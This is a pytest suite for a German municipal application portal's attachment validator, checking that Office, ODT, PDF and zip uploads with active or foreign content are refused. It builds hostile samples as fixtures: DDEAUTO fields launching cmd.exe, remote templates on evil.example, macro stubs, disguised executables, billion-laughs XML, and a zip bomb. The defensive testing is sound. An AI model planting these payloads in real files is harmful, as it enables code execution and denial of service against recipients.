"""DOCX and ODT are checked by their real structure (no macros, no
embedded programs or objects, no templates from web servers or network
shares, no DDE fields), zip packages by what they really inflate to, and
what all files of one application may cost to inspect is bounded in total.
What Word on Windows ordinarily saves (printer settings, the workbook behind
a chart, a template on the local disk) is accepted. Every refusal shows the
German message at the attachments field and stores nothing."""

import io
import random
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from b52_wagtail.applications.models import ApplicationSubmission
from b52_wagtail.applications.storage import private_storage
from b52_wagtail.applications.uploads import budget as budget_module
from b52_wagtail.applications.uploads import check_upload, check_uploads
from b52_wagtail.applications.uploads import pdf as pdf_module

from . import pdfs
from .test_form import assert_refused, submit
from .utils import (
    OFFICE_RELATIONSHIPS,
    WORD_PARAGRAPH,
    chart_docx,
    docx_bytes,
    field,
    image_bytes,
    lie_about_size,
    odt_bytes,
    pdf,
    printer_settings_docx,
    stored_files,
    valid_data,
    xlsx_bytes,
)

pytestmark = pytest.mark.django_db

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
PROGRAM = b"MZ" + b"\x90" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 200
VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
TEMPLATE = f"{OFFICE_RELATIONSHIPS}/attachedTemplate"
HYPERLINK = f"{OFFICE_RELATIONSHIPS}/hyperlink"
ODF_EVENT = (
    '<text:p><text:a xlink:type="simple" xlink:href="https://www.salach.de">Salach'
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    'script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:LibreLogo|'
    'LibreLogo.py$run?language=Python&amp;location=share"/></office:event-listeners>'
    "</text:a></text:p>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&lol2;</Types>'
)


def upload(name, content):
    return SimpleUploadedFile(name, content, "application/octet-stream")


def noise(size, seed=1):
    """Text that packs only about 2:1 (hex of random bytes)."""
    return random.Random(seed).randbytes(size // 2).hex().encode()


def docx_with_laughs():
    data = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(data) as source:
        members = {name: source.read(name) for name in source.namelist()}
    members["[Content_Types].xml"] = LAUGHS
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return output.getvalue()


def odt_mimetype_deflated():
    data = odt_bytes()
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w") as package:
        for info in source.infolist():
            package.writestr(info.filename, source.read(info), zipfile.ZIP_DEFLATED)
    return output.getvalue()


REFUSED = [
    # (name, content, German message)
    (
        "makro.docx",
        docx_bytes(
            parts={"word/vbaProject.bin": OLE},
            overrides={"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
            relationships=[(VBA_RELATIONSHIP, "vbaProject.bin", False)],
        ),
        "„makro.docx“ enthält Makros (word/vbaProject.bin). Bitte speichern Sie das Dokument "
        "ohne Makros (als .docx oder .odt oder als PDF) und laden Sie es erneut hoch.",
    ),
    (
        "makro-typ.docx",
        docx_bytes(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "„makro-typ.docx“ enthält Makros (word/document.xml).",
    ),
    (
        "freigabe.docx",
        docx_bytes(relationships=[(TEMPLATE, "\\\\fileserver\\vorlagen\\brief.dotm", True)]),
        "verweist auf eine externe Datei oder Vorlage (\\\\fileserver\\vorlagen\\brief.dotm)",
    ),
    (
        "fernvorlage.docx",
        docx_bytes(relationships=[(TEMPLATE, "https://evil.example/brief.dotm", True)]),
        "verweist auf eine externe Datei oder Vorlage (https://evil.example/brief.dotm)",
    ),
    (
        "dateilink.docx",
        docx_bytes(relationships=[(HYPERLINK, "file://server/share/liste.xlsx", True)]),
        "verweist auf eine externe Datei oder Vorlage (file://server/share/liste.xlsx)",
    ),
    (
        "steuerelement.docx",
        docx_bytes(
            parts={"word/activeX/activeX1.xml": b"<ax/>"},
            overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        ),
        "„steuerelement.docx“ enthält eingebettete Objekte oder Steuerelemente "
        "(word/activeX/activeX1.xml).",
    ),
    (
        "ole.docx",
        docx_bytes(parts={"word/embeddings/oleObject1.bin": OLE}),
        "enthält eingebettete Objekte oder Steuerelemente (word/embeddings/oleObject1.bin)",
    ),
    (
        "programm.docx",
        docx_bytes(parts={"word/media/setup.exe": PROGRAM}),
        "„programm.docx“ enthält eine Programmdatei (word/media/setup.exe) und wird nicht "
        "angenommen.",
    ),
    (
        "getarnt.docx",
        docx_bytes(parts={"word/media/image1.png": PROGRAM}),
        "enthält eine Programmdatei (word/media/image1.png)",
    ),
    (
        "skript.docx",
        docx_bytes(parts={"word/media/start.ps1": b"Start-Process calc"}),
        "enthält eine Programmdatei (word/media/start.ps1)",
    ),
    (
        "tabelle.docx",
        docx_bytes(parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": docx_bytes()}),
        "„tabelle.docx“ enthält ein weiteres Archiv oder ein eingebettetes Dokument "
        "(word/embeddings/Microsoft_Excel_Worksheet.xlsx).",
    ),
    (
        "verschachtelt.docx",
        docx_bytes(parts={"word/media/daten.xml": odt_bytes()}),
        "enthält ein weiteres Archiv oder ein eingebettetes Dokument (word/media/daten.xml)",
    ),
    ("lachen.docx", docx_with_laughs(), "„lachen.docx“ ist beschädigt oder nicht lesbar"),
    (
        "basic.odt",
        odt_bytes(
            entries=[("Basic/Standard/Module1.xml", "text/xml")],
            parts={"Basic/Standard/Module1.xml": b"<script:module/>"},
        ),
        "„basic.odt“ enthält Makros (Basic/Standard/Module1.xml).",
    ),
    (
        "python.odt",
        odt_bytes(parts={"Scripts/python/run.py": b"import os"}),
        "„python.odt“ enthält Makros (Scripts/python/run.py).",
    ),
    (
        "skripttyp.odt",
        odt_bytes(entries=[("Object 1/run", "application/x-javascript")]),
        "„skripttyp.odt“ enthält Makros (Object 1/run).",
    ),
    (
        "ereignis.odt",
        odt_bytes(content=ODF_EVENT),
        "„ereignis.odt“ enthält Makros (vnd.sun.star.script:LibreLogo",
    ),
    (
        "link.odt",
        odt_bytes(
            content='<text:p><text:a xlink:href="macro:///Standard.Module1.Main">x</text:a>'
            "</text:p>"
        ),
        "„link.odt“ enthält Makros (macro:///Standard.Module1.Main).",
    ),
    (
        "programm.odt",
        odt_bytes(parts={"Pictures/setup.exe": PROGRAM}),
        "„programm.odt“ enthält eine Programmdatei (Pictures/setup.exe)",
    ),
    (
        "geheim.odt",
        odt_bytes(
            entries=[
                (
                    "styles.xml",
                    "text/xml",
                    '<manifest:encryption-data manifest:checksum-type="SHA1/1K" '
                    'manifest:checksum="x"/>',
                )
            ]
        ),
        "„geheim.odt“ ist verschlüsselt oder mit einem Passwort",
    ),
    ("gepackt.odt", odt_mimetype_deflated(), "ist keine gültige PDF-, DOCX-, ODT-"),
    (
        "vorlage.odt",
        odt_bytes(b"application/vnd.oasis.opendocument.text-template"),
        "ist keine gültige PDF-, DOCX-, ODT-",
    ),
]


@pytest.mark.parametrize("name,content,message", REFUSED, ids=[r[0] for r in REFUSED])
def test_a_document_with_active_or_foreign_parts_is_refused(
    client, form_page, district, name, content, message
):
    response = submit(client, form_page, valid_data(district), files=[upload(name, content)])
    assert_refused(response, message, "attachments")


@pytest.mark.parametrize(
    "name,content",
    [
        (
            "links.docx",
            docx_bytes(
                relationships=[
                    (HYPERLINK, "https://www.salach.de/projekt", True),
                    (HYPERLINK, "mailto:rathaus@salach.example", True),
                    (f"{OFFICE_RELATIONSHIPS}/image", "media/image1.png", False),
                ],
                parts={"word/media/image1.png": image_bytes("PNG")},
            ),
        ),
        ("bild.odt", odt_bytes(parts={"Pictures/foto.png": image_bytes("PNG")})),
        (
            "link.odt",
            odt_bytes(
                content='<text:p><text:a xlink:href="https://www.salach.de">x</text:a></text:p>'
            ),
        ),
    ],
)
def test_a_plain_document_with_links_and_pictures_is_accepted(
    client, form_page, district, name, content
):
    response = submit(client, form_page, valid_data(district), files=[upload(name, content)])
    assert "B52-2026-0001" in response.content.decode()
    attachment = ApplicationSubmission.objects.get().attachments.get()
    assert attachment.original_name == name
    assert attachment.warnings == []
    assert stored_files() == [attachment.file.name]


# What Word on Windows ordinarily saves ----------------------------------------------


def assert_stored(response, name, content):
    """The application was received and the file stored exactly as uploaded."""
    assert "B52-2026-0001" in response.content.decode()
    attachment = ApplicationSubmission.objects.get().attachments.get()
    assert attachment.original_name == name
    assert attachment.content_type == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
    assert attachment.warnings == []
    assert stored_files() == [attachment.file.name]
    with private_storage.open(attachment.file.name) as handle:
        assert handle.read() == content


def with_member(data, name, content):
    """The zip ``data`` with member ``name`` replaced by ``content``."""
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as package,
    ):
        for info in source.infolist():
            package.writestr(info, content if info.filename == name else source.read(info))
    return output.getvalue()


@pytest.mark.parametrize(
    "name,content",
    [
        ("lachen-text.docx", with_member(docx_bytes(), "word/document.xml", LAUGHS)),
        ("lachen-text.odt", with_member(odt_bytes(), "content.xml", LAUGHS)),
    ],
)
def test_entities_in_the_text_of_a_document_are_refused(client, form_page, district, name, content):
    response = submit(client, form_page, valid_data(district), files=[upload(name, content)])
    assert_refused(response, f"„{name}“ ist beschädigt oder nicht lesbar", "attachments")


def test_a_docx_with_printer_settings_is_accepted(client, form_page, district):
    content = printer_settings_docx()
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert "word/printerSettings/printerSettings1.bin" in package.namelist()
    response = submit(
        client, form_page, valid_data(district), files=[upload("antrag.docx", content)]
    )
    assert_stored(response, "antrag.docx", content)


# The workbook behind a chart, as Word names it in English and in German.
CHART_WORKBOOKS = ["Microsoft_Excel_Worksheet.xlsx", "Microsoft_Excel-Arbeitsblatt1.xlsx"]


@pytest.mark.parametrize("workbook", CHART_WORKBOOKS)
def test_a_docx_with_a_chart_and_its_workbook_is_accepted(client, form_page, district, workbook):
    content = chart_docx(xlsx_bytes(), name=workbook)
    response = submit(
        client, form_page, valid_data(district), files=[upload("diagramm.docx", content)]
    )
    assert_stored(response, "diagramm.docx", content)


@pytest.mark.parametrize(
    "target", ["file:///C:/Vorlagen/Gemeinde.dotx", "C:\\Vorlagen\\Gemeinde.dotx"]
)
def test_a_docx_with_a_template_on_the_local_disk_is_accepted(client, form_page, district, target):
    content = docx_bytes(settings_relationships=[(TEMPLATE, target, True)])
    response = submit(
        client, form_page, valid_data(district), files=[upload("vorlage.docx", content)]
    )
    assert_stored(response, "vorlage.docx", content)


@pytest.mark.parametrize(
    "body",
    [
        field(" PAGE \\* MERGEFORMAT "),
        field(' HYPERLINK "https://www.salach.de/projekt" '),
        field(' TOC \\o "1-3" \\h \\z \\u '),
        field(' INCLUDEPICTURE "C:\\\\Users\\\\amuster\\\\Bilder\\\\logo.png" \\* MERGEFORMAT '),
        WORD_PARAGRAPH.replace("Bewerbung", "Felder wie DDEAUTO sind hier nur Text:"),
    ],
    ids=["page", "hyperlink", "toc", "local-picture", "dde-as-text"],
)
def test_a_docx_with_ordinary_fields_is_accepted(client, form_page, district, body):
    content = docx_bytes(body=body)
    response = submit(
        client, form_page, valid_data(district), files=[upload("felder.docx", content)]
    )
    assert_stored(response, "felder.docx", content)


PRINTER = "word/printerSettings/printerSettings1.bin"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
DDE_MESSAGE = (
    "„{}“ enthält ein DDE-Feld, das Programme starten kann ({}). Bitte speichern Sie das "
    "Dokument ohne dieses Feld, zum Beispiel als PDF, und laden Sie es erneut hoch."
)


def header_docx(body):
    """A DOCX whose header holds ``body``."""
    return docx_bytes(
        overrides={"/word/header1.xml": HEADER_TYPE},
        relationships=[(f"{OFFICE_RELATIONSHIPS}/header", "header1.xml", False)],
        parts={
            "word/header1.xml": '<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="'
            'http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"{body}</w:hdr>"
        },
    )


def with_workbook_link():
    """A workbook that links to another one (as Excel stores DDE links too)."""
    link = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    return xlsx_bytes(
        parts={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
        overrides={"/xl/externalLinks/externalLink1.xml": link},
    )


WORKBOOK = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"
INSIDE = "Microsoft_Excel_Worksheet.xlsx"
REFUSED_ORDINARY = [
    # Printer settings only where Word puts them, as what they are.
    (
        "drucker-ort.docx",
        printer_settings_docx("word/media/printerSettings1.bin"),
        "enthält eingebettete Objekte oder Steuerelemente (word/media/printerSettings1.bin)",
    ),
    (
        "drucker-ole.docx",
        printer_settings_docx(content=OLE),
        f"enthält eingebettete Objekte oder Steuerelemente ({PRINTER})",
    ),
    (
        "drucker-makro.docx",
        docx_bytes(
            parts={PRINTER: OLE},
            overrides={f"/{PRINTER}": VBA_TYPE},
            relationships=[(VBA_RELATIONSHIP, "printerSettings/printerSettings1.bin", False)],
        ),
        f"„drucker-makro.docx“ enthält Makros ({PRINTER}).",
    ),
    (
        "drucker-objekt.docx",
        docx_bytes(
            defaults={
                "bin": "application/vnd.openxmlformats-officedocument.wordprocessingml."
                "printerSettings"
            },
            parts={PRINTER: b"\x00" * 64},
            relationships=[
                (f"{OFFICE_RELATIONSHIPS}/oleObject", "printerSettings/printerSettings1.bin", False)
            ],
        ),
        f"enthält eingebettete Objekte oder Steuerelemente ({PRINTER})",
    ),
    # The workbook behind a chart is checked like the document.
    (
        "diagramm-makro.docx",
        chart_docx(
            xlsx_bytes(parts={"xl/vbaProject.bin": OLE}, overrides={"/xl/vbaProject.bin": VBA_TYPE})
        ),
        f"„diagramm-makro.docx“ enthält Makros ({INSIDE}/xl/vbaProject.bin). Bitte speichern "
        "Sie das Dokument ohne Makros",
    ),
    (
        "diagramm-xlsm.docx",
        chart_docx(
            xlsx_bytes(
                overrides={
                    "/xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
                }
            )
        ),
        f"„diagramm-xlsm.docx“ enthält Makros ({INSIDE}/xl/workbook.xml).",
    ),
    (
        "diagramm-zip.docx",
        chart_docx(xlsx_bytes(parts={"xl/media/image1.png": docx_bytes()})),
        "„diagramm-zip.docx“ enthält ein weiteres Archiv oder ein eingebettetes Dokument "
        f"({INSIDE}/xl/media/image1.png).",
    ),
    (
        "diagramm-ole.docx",
        chart_docx(xlsx_bytes(parts={"xl/embeddings/oleObject1.bin": OLE})),
        f"enthält eingebettete Objekte oder Steuerelemente ({INSIDE}/xl/embeddings/oleObject1.bin)",
    ),
    (
        "diagramm-programm.docx",
        chart_docx(xlsx_bytes(parts={"xl/media/image2.png": PROGRAM})),
        f"enthält eine Programmdatei ({INSIDE}/xl/media/image2.png)",
    ),
    (
        "diagramm-verknuepft.docx",
        chart_docx(with_workbook_link()),
        "verweist auf eine externe Datei oder Vorlage "
        f"({INSIDE}/xl/externalLinks/externalLink1.xml)",
    ),
    (
        "diagramm-dokument.docx",
        chart_docx(docx_bytes()),
        f"enthält ein weiteres Archiv oder ein eingebettetes Dokument ({WORKBOOK}).",
    ),
    (
        "diagramm-ole-datei.docx",
        chart_docx(OLE),
        f"enthält ein weiteres Archiv oder ein eingebettetes Dokument ({WORKBOOK}).",
    ),
    # Templates and other files from web servers or network shares.
    (
        "fernvorlage-einstellungen.docx",
        docx_bytes(settings_relationships=[(TEMPLATE, "https://evil.example/t.dotm", True)]),
        "„fernvorlage-einstellungen.docx“ verweist auf eine externe Datei oder Vorlage "
        "(https://evil.example/t.dotm). Bitte speichern Sie das Dokument als PDF oder ohne "
        "Verweise auf Vorlagen oder andere Dateien und laden Sie es erneut hoch.",
    ),
    (
        "freigabe-einstellungen.docx",
        docx_bytes(settings_relationships=[(TEMPLATE, "\\\\evil.example\\share\\t.dotm", True)]),
        "verweist auf eine externe Datei oder Vorlage (\\\\evil.example\\share\\t.dotm)",
    ),
    (
        "freigabe-url.docx",
        docx_bytes(settings_relationships=[(TEMPLATE, "file://evil.example/share/t.dotm", True)]),
        "verweist auf eine externe Datei oder Vorlage (file://evil.example/share/t.dotm)",
    ),
    (
        "ftp-vorlage.docx",
        docx_bytes(settings_relationships=[(TEMPLATE, "ftp://evil.example/t.dotm", True)]),
        "verweist auf eine externe Datei oder Vorlage (ftp://evil.example/t.dotm)",
    ),
    (
        "fernbild.docx",
        docx_bytes(
            relationships=[(f"{OFFICE_RELATIONSHIPS}/image", "https://evil.example/p.png", True)]
        ),
        "verweist auf eine externe Datei oder Vorlage (https://evil.example/p.png)",
    ),
    # Fields that start programs or fetch files from outside.
    (
        "dde.docx",
        # The keyword itself split over two runs: "DD" + "EAUTO".
        docx_bytes(
            body=field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ', split=3)
        ),
        DDE_MESSAGE.format("dde.docx", "word/document.xml"),
    ),
    (
        "dde-einfach.docx",
        docx_bytes(
            body='<w:p><w:fldSimple w:instr="  dde  cmd &quot;/c calc&quot; ">'
            "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
        ),
        DDE_MESSAGE.format("dde-einfach.docx", "word/document.xml"),
    ),
    (
        "dde-kopfzeile.docx",
        header_docx(field(' ddeAuto cmd "/c calc" ')),
        DDE_MESSAGE.format("dde-kopfzeile.docx", "word/header1.xml"),
    ),
    (
        "fernbild-feld.docx",
        docx_bytes(body=field(' INCLUDEPICTURE "https://evil.example/p.png" \\d ')),
        "verweist auf eine externe Datei oder Vorlage (https://evil.example/p.png)",
    ),
    (
        "freigabe-feld.docx",
        docx_bytes(body=field(' INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\t.docx" ')),
        "verweist auf eine externe Datei oder Vorlage (\\\\\\\\evil.example\\\\share\\\\t.docx)",
    ),
    (
        "berechnet-feld.docx",
        docx_bytes(
            body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText> INCLUDEPICTURE "</w:instrText></w:r>'
            + field(" QUOTE 104 116 116 112 ").removeprefix("<w:p>").removesuffix("</w:p>")
            + '<w:r><w:instrText>" \\d </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "verweist auf eine externe Datei oder Vorlage ({…})",
    ),
]


@pytest.mark.parametrize(
    "name,content,message", REFUSED_ORDINARY, ids=[r[0] for r in REFUSED_ORDINARY]
)
def test_what_is_not_ordinary_about_such_a_document_is_refused(
    client, form_page, district, name, content, message
):
    response = submit(client, form_page, valid_data(district), files=[upload(name, content)])
    assert_refused(response, message, "attachments")


def test_the_workbook_behind_a_chart_counts_towards_the_inflated_limit(
    client, form_page, district, settings
):
    settings.B52_APPLICATION_MAX_INFLATED_SIZE = 1024 * 1024
    rows = [[noise(800_000).decode()[i : i + 30_000]] for i in range(0, 800_000, 30_000)]
    workbook = xlsx_bytes(rows=rows)
    with zipfile.ZipFile(io.BytesIO(workbook)) as package:
        inside = sum(info.file_size for info in package.infolist())
    content = chart_docx(workbook)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        outside = sum(info.file_size for info in package.infolist())
    # The document and the workbook each unpack to less than the limit,
    # both together to more.
    assert inside < 1024 * 1024 and outside < 1024 * 1024 < inside + outside
    response = submit(
        client, form_page, valid_data(district), files=[upload("grosses-diagramm.docx", content)]
    )
    assert_refused(
        response, "„grosses-diagramm.docx“ ist entpackt größer als 1,0\xa0MB.", "attachments"
    )


# Zip packages: real sizes ----------------------------------------------------------


def test_a_zip_that_declares_smaller_sizes_than_it_holds_is_refused(client, form_page, district):
    content = lie_about_size(
        docx_bytes(parts={"word/media/daten.xml": noise(1_200_000)}), "word/media/daten.xml", 100
    )
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert package.getinfo("word/media/daten.xml").file_size == 100
    response = submit(client, form_page, valid_data(district), files=[upload("lüge.docx", content)])
    assert_refused(
        response,
        "„lüge.docx“ ist beschädigt oder manipuliert: Die angegebenen Größen passen nicht "
        "zum Inhalt.",
        "attachments",
    )


def test_a_zip_that_declares_larger_sizes_than_it_holds_is_refused():
    content = lie_about_size(docx_bytes(), "word/document.xml", 2_000_000_000)
    with pytest.raises(ValidationError) as error:
        check_upload(upload("gross.docx", content))
    assert error.value.code == "zip_sizes"


def test_the_real_inflated_size_counts_not_the_declared_one(client, form_page, district, settings):
    settings.B52_APPLICATION_MAX_INFLATED_SIZE = 1024 * 1024
    content = lie_about_size(
        docx_bytes(parts={"word/media/daten.xml": noise(1_200_000)}), "word/media/daten.xml", 100
    )
    response = submit(
        client, form_page, valid_data(district), files=[upload("daten.docx", content)]
    )
    assert_refused(
        response,
        "„daten.docx“ ist entpackt größer als 1,0\xa0MB. Bitte speichern Sie die Datei mit "
        "kleineren Bildern oder als PDF und laden Sie sie erneut hoch.",
        "attachments",
    )


def test_an_honest_zip_over_the_inflated_limit_is_refused(settings):
    settings.B52_APPLICATION_MAX_INFLATED_SIZE = 1024 * 1024
    content = docx_bytes(parts={"word/media/daten.xml": noise(1_200_000)})
    with pytest.raises(ValidationError) as error:
        check_upload(upload("daten.docx", content))
    assert error.value.code == "inflated_too_large"


def zip_bomb(megabytes=50):
    """A DOCX with a part of ``megabytes`` MB of zeros (about 1000:1)."""
    buffer = io.BytesIO(docx_bytes())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package,
        package.open("word/media/bombe.xml", "w") as handle,
    ):
        for _ in range(megabytes):
            handle.write(bytes(1024 * 1024))
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_with_bounded_memory(client, form_page, district):
    content = zip_bomb()
    assert len(content) < 100_000
    tracemalloc.start()
    try:
        with pytest.raises(ValidationError) as error:
            check_upload(upload("bombe.docx", content))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert error.value.code == "inflated_ratio"
    assert peak < 10 * 1024 * 1024
    response = submit(
        client, form_page, valid_data(district), files=[upload("bombe.docx", content)]
    )
    assert_refused(
        response,
        "„bombe.docx“ ist ungewöhnlich gepackt (entpackt ein Vielfaches ihrer Größe) "
        "und wird nicht angenommen.",
        "attachments",
    )


def test_a_zip_with_too_many_members_is_refused(client, form_page, district):
    content = docx_bytes(parts={f"word/media/teil{n}.xml": b"<x/>" for n in range(2000)})
    response = submit(
        client, form_page, valid_data(district), files=[upload("teile.docx", content)]
    )
    assert_refused(
        response, "„teile.docx“ besteht aus zu vielen Teilen (mehr als 2000).", "attachments"
    )


# The budget of one request ---------------------------------------------------------

BUDGET_MESSAGE = "Die Dateien sind zusammen zu aufwendig zu prüfen (abgebrochen bei „{}“)."


def test_inflated_bytes_are_bounded_across_the_files_of_a_request(
    client, form_page, district, settings
):
    settings.B52_APPLICATION_MAX_INFLATED_SIZE = 1024 * 1024
    one = docx_bytes(parts={"word/media/daten.xml": noise(600_000, seed=1)})
    two = docx_bytes(parts={"word/media/daten.xml": noise(600_000, seed=2)})
    # Each file alone is within the limit.
    check_upload(upload("eins.docx", one))
    check_upload(upload("zwei.docx", two))
    files = [upload("eins.docx", one), upload("zwei.docx", two)]
    response = submit(client, form_page, valid_data(district), files=files)
    assert_refused(response, BUDGET_MESSAGE.format("zwei.docx"), "attachments")


def test_pixels_are_bounded_across_the_images_of_a_request(client, form_page, district, settings):
    settings.B52_APPLICATION_MAX_TOTAL_IMAGE_PIXELS = 5000  # one 64 × 48 image has 3072
    files = [
        upload("eins.png", image_bytes("PNG")),
        upload("zwei.png", image_bytes("PNG")),
        upload("seite.html", b"<script>alert(1)</script>"),
    ]
    response = submit(client, form_page, valid_data(district), files=files)
    assert_refused(response, BUDGET_MESSAGE.format("zwei.png"), "attachments")
    # The files after the one that used up the budget are not checked.
    assert "seite.html" not in str(response.context["form"].errors["attachments"])


def test_cpu_time_is_bounded_across_the_files_of_a_request(
    client, form_page, district, settings, monkeypatch
):
    settings.B52_APPLICATION_INSPECTION_BUDGET_SECONDS = 10
    now = {"seconds": 0.0}
    monkeypatch.setattr(budget_module, "clock", lambda: now["seconds"])
    search = pdf_module.find_active_content

    def slow_search(reader, budget):
        now["seconds"] += 6  # each PDF takes six seconds of CPU
        return search(reader, budget)

    monkeypatch.setattr(pdf_module, "find_active_content", slow_search)
    files = [pdf("eins.pdf"), pdf("zwei.pdf"), pdf("drei.pdf")]
    response = submit(client, form_page, valid_data(district), files=files)
    assert_refused(response, BUDGET_MESSAGE.format("drei.pdf"), "attachments")


def test_the_object_streams_of_a_pdf_count_towards_the_budget(settings):
    content = pdfs.packed_pdf(extra_objects={4: b"(" + b"x" * 50_000 + b")"})
    settings.B52_APPLICATION_MAX_INFLATED_SIZE = 20_000
    with pytest.raises(ValidationError) as error:
        check_uploads([upload("gross.pdf", content)])
    assert [item.code for item in error.value.error_list] == ["inspection_budget"]
    settings.B52_APPLICATION_MAX_INFLATED_SIZE = 100_000
    assert check_uploads([upload("gross.pdf", content)])[0].warnings == []
